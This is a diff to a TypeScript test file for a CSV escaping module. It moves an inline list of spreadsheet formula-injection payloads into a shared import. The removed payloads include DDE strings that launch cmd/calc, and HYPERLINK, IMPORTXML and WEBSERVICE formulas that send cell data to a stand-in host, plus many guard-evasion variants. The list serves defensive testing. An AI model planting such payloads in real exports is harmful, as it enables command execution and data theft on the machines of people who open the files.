@@ -1,51 +1,8 @@
 import { parse } from "csv-parse/sync";
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
+import { PAYLOADS } from "#lib/testing/formula-payloads.ts";
 import { csvCell, csvLine, unguardText } from "./csv.ts";
-
-/** Forty ways to begin a formula, to break out of a cell, or to look like either. */
-const PAYLOADS = [
-  "=1+1",
-  "=cmd|' /C calc'!A0",
-  '=HYPERLINK("http://elsewhere.test?x="&A1,"Click")',
-  '=IMPORTXML(CONCAT("http://elsewhere.test/?v=",A1),"//a")',
-  '=WEBSERVICE("http://elsewhere.test")',
-  '=DDE("cmd";"/C calc";"!A0")',
-  "==1",
-  "= 1",
-  "=\t1",
-  "=A1,=A2",
-  "=A1;=A2",
-  "+1+1",
-  "+cmd|' /C calc'!A0",
-  "+44 20 7946 0000",
-  "-1+1",
-  "-2+3+cmd|' /C calc'!A0",
-  "--1",
-  "- a list's dash",
-  "-5",
-  "-5.00",
-  "@SUM(1+1)*cmd|' /C calc'!A0",
-  "@name",
-  "\t=1+1",
-  "\r=1+1",
-  "\n=1+1",
-  "\r\n=1+1",
-  "\0=1+1",
-  "'=1+1",
-  "''=1+1",
-  "'plain",
-  "'",
-  '"=1+1"',
-  '","=1+1',
-  '"\r\n=1+1,"',
-  ";=1+1",
-  "a;=1+1",
-  "＝1+1",
-  "＠SUM(1)",
-  " =1+1 ",
-  "",
-];
 
 const read = (line: string): string[] => parse(line, { relax_column_count: true, skip_empty_lines: false })[0] ?? [];
 
